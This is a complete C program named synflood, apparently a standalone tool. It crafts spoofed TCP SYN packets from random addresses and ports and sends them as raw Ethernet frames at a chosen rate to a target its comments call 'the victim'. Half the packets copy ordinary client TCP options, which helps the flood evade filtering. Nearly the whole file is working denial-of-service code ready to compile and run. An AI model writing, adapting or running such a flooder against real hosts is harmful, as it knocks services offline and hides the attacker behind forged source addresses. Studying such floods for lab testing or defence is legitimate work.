/* synflood: SYNs from random addresses and ports to one port, at a steady rate, written to an interface as frames.
 *
 *   synflood INTERFACE MAC ADDRESS PORT RATE SECONDS
 *
 * MAC and ADDRESS are the victim's. The sources are drawn from 11.0.0.0/8, which nobody here has. Half of the SYNs have
 * the options of an ordinary client, half only the MSS. Frames that the interface cannot take are not repeated; what is
 * late is caught up, within BEHIND_MAX. Prints how many frames were sent; needs CAP_NET_RAW. */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define TICK_NS    1000000
#define BEHIND_MAX 0.05 /* seconds */
#define IP_LEN     20
#define TCP_LEN    20
#define FRAME_MAX  (ETH_HLEN + IP_LEN + TCP_LEN + 20)

static const uint8_t mss_only[] = {2, 4, 0x05, 0xb4};
static const uint8_t ordinary[] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 7};

static uint64_t state;

/* xorshift64*: which source follows which does not matter, only that there are many. */
static uint64_t draw(void)
{
	state ^= state >> 12;
	state ^= state << 25;
	state ^= state >> 27;
	return state * UINT64_C(2685821657736338717);
}

static void put16(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, v >> 16);
	put16(p + 2, v & 0xffff);
}

static uint32_t sum(const uint8_t *p, size_t len, uint32_t start)
{
	for (size_t i = 0; i + 1 < len; i += 2)
		start += (uint32_t)p[i] << 8 | p[i + 1];
	return start;
}

static uint32_t fold(uint32_t s)
{
	s = (s & 0xffff) + (s >> 16);
	s = (s & 0xffff) + (s >> 16);
	return ~s & 0xffff;
}

/* The frame's length. frame holds the Ethernet header already. */
static size_t build(uint8_t *frame, uint32_t address, uint16_t port)
{
	const uint64_t r = draw(), r2 = draw();
	const bool plain = r2 & 1;
	const uint8_t *options = plain ? mss_only : ordinary;
	const size_t options_len = plain ? sizeof(mss_only) : sizeof(ordinary), tcp_len = TCP_LEN + options_len;
	uint8_t *ip = frame + ETH_HLEN, *tcp = ip + IP_LEN;

	memset(ip, 0, IP_LEN + TCP_LEN);
	ip[0] = 0x45;
	put16(ip + 2, (uint32_t)(IP_LEN + tcp_len));
	put16(ip + 4, (uint32_t)r2 >> 16);
	ip[8] = 64;
	ip[9] = IPPROTO_TCP;
	put32(ip + 12, 11u << 24 | ((uint32_t)r & 0xffffff));
	put32(ip + 16, address);
	put16(ip + 10, fold(sum(ip, IP_LEN, 0)));
	put16(tcp, 1024 + (uint32_t)(r >> 24) % 64000);
	put16(tcp + 2, port);
	put32(tcp + 4, (uint32_t)(r >> 32));
	tcp[12] = (uint8_t)(tcp_len / 4 << 4);
	tcp[13] = 2; /* SYN */
	put16(tcp + 14, 64240);
	memcpy(tcp + TCP_LEN, options, options_len);
	put16(tcp + 16, fold(sum(tcp, tcp_len, sum(ip + 12, 8, IPPROTO_TCP + (uint32_t)tcp_len))));
	return ETH_HLEN + IP_LEN + tcp_len;
}

static double now_s(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int open_interface(const char *name)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(name)};
	int fd = socket(AF_PACKET, SOCK_RAW, 0);

	if (fd < 0 || to.sll_ifindex == 0 || bind(fd, (struct sockaddr *)&to, sizeof(to)) < 0) {
		perror("synflood");
		exit(EXIT_FAILURE);
	}
	return fd;
}

static unsigned long flood(int fd, uint8_t *frame, uint32_t address, uint16_t port, double rate, double seconds)
{
	const struct timespec tick = {.tv_nsec = TICK_NS};
	double begin = now_s(), done = 0; /* SYNs that are sent, or given up because they were too late */
	unsigned long sent = 0;

	for (double t = 0; t < seconds; t = now_s() - begin) {
		if (done < (t - BEHIND_MAX) * rate)
			done = (t - BEHIND_MAX) * rate;
		for (; done < t * rate; done++)
			sent += send(fd, frame, build(frame, address, port), MSG_DONTWAIT) > 0;
		nanosleep(&tick, NULL);
	}
	return sent;
}

int main(int argc, char **argv)
{
	uint8_t frame[FRAME_MAX] = {0};
	unsigned m[ETH_ALEN];
	struct in_addr address;

	if (argc != 7 || inet_pton(AF_INET, argv[3], &address) != 1 ||
	    sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &m[0], &m[1], &m[2], &m[3], &m[4], &m[5]) != 6) {
		fputs("usage: synflood INTERFACE MAC ADDRESS PORT RATE SECONDS\n", stderr);
		return 2;
	}
	for (int i = 0; i < ETH_ALEN; i++)
		frame[i] = (uint8_t)m[i];
	frame[ETH_ALEN] = 2; /* a local address */
	frame[ETH_ALEN + 5] = 9;
	put16(frame + 2 * ETH_ALEN, ETH_P_IP);
	if (getrandom(&state, sizeof(state), 0) != sizeof(state) || state == 0)
		return EXIT_FAILURE;
	printf("%lu\n", flood(open_interface(argv[1]), frame, ntohl(address.s_addr), (uint16_t)atoi(argv[4]),
	                      atof(argv[5]), atof(argv[6])));
	return EXIT_SUCCESS;
}
